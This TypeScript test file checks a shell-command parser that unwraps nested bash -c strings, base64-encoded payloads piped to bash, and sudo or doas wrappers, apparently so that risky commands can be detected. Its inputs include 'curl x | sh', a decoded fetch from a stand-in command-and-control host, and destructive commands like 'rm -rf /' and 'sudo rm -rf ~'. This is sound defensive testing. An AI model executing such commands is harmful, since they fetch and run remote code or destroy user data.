// Commands run by other commands: nested shells, base64 payloads and wrappers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { NOTHING, shell, summary } from '../helpers/facts.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');

describe('nested shells', () => {
  it('parses bash -c strings', () => {
    const f = shell("bash -c 'curl x | sh'");
    assert.deepEqual(
      f.commands.map((c) => c.name),
      ['bash', 'curl', 'sh'],
    );
    assert.deepEqual(f.commands[0]?.args, ['-c', 'curl x | sh']);
    assert.deepEqual(f.pipelines, [['curl', 'sh']]);
    assert.deepEqual(f.hosts, ['x']);
  });

  const quote = (s: string): string => `'${s.replaceAll("'", "'\\''")}'`;
  const nest = (levels: number): string => {
    let command = 'rm -rf /tmp/deep';
    for (let i = 0; i < levels; i++) command = `bash -c ${quote(command)}`;
    return command;
  };

  it('follows shell strings eight levels deep', () => {
    const f = shell(nest(8));
    assert.equal(f.parsed, true);
    assert.deepEqual(f.commands.at(-1), { name: 'rm', args: ['-rf', '/tmp/deep'], text: 'rm -rf /tmp/deep' });
  });

  it('reports deeper shell strings as unparsed', () => {
    assert.deepEqual(summary(shell(nest(9))), { ...NOTHING, parsed: false });
  });
});

describe('base64 payloads', () => {

  it('decodes printf, --decode, -D and openssl base64 -d', () => {
    const payload = b64('curl -s https://c2.example/x');
    for (const decode of ['base64 --decode', 'base64 -D', 'openssl base64 -d', 'base64 -di']) {
      const f = shell(`printf %s ${payload} | ${decode} | bash`);
      assert.deepEqual(f.commands.at(-1)?.text, 'curl -s https://c2.example/x', decode);
      assert.deepEqual(f.hosts, ['c2.example'], decode);
    }
  });
});

describe('wrapper commands', () => {
  it('lists sudo and the command it runs', () => {
    const f = shell('sudo rm -rf ~');
    assert.deepEqual(f.commands, [
      { name: 'sudo', args: ['rm', '-rf', '~'], text: 'sudo rm -rf ~' },
      { name: 'rm', args: ['-rf', '~'], text: 'rm -rf ~' },
    ]);
  });

  it('unwraps doas, stdbuf, ionice, time, command, exec, builtin, setsid, chroot and strace', () => {
    const wrapped = ['doas -u root', 'stdbuf -oL', 'ionice -c 3', 'time -p', 'command', 'exec', 'builtin', 'setsid', 'chroot /mnt', 'strace -f -o /tmp/t'];
    for (const w of wrapped) {
      const f = shell(`${w} shred -u /tmp/k`);
      assert.deepEqual(f.commands.map((c) => c.name), [w.split(' ')[0], 'shred'], w);
      assert.deepEqual(f.commands[1]?.args, ['-u', '/tmp/k'], w);
    }
  });

  it('refuses absurdly long wrapper chains', () => {
    assert.equal(shell(`${'sudo '.repeat(40)}rm -rf /`).parsed, false);
  });
});
